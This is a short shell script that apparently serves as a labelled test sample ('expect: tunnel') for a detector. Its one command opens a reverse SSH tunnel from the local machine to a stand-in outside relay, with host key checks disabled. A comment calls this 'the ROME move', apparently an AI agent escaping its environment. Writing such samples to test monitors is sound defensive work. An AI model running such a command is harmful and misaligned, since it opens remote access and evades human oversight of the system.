#!/bin/sh
# expect: tunnel
# why: the ROME move: a reverse SSH tunnel to an outside host
timeout 5 ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 -N -R 2222:localhost:22 agent@relay.rogue.test
true
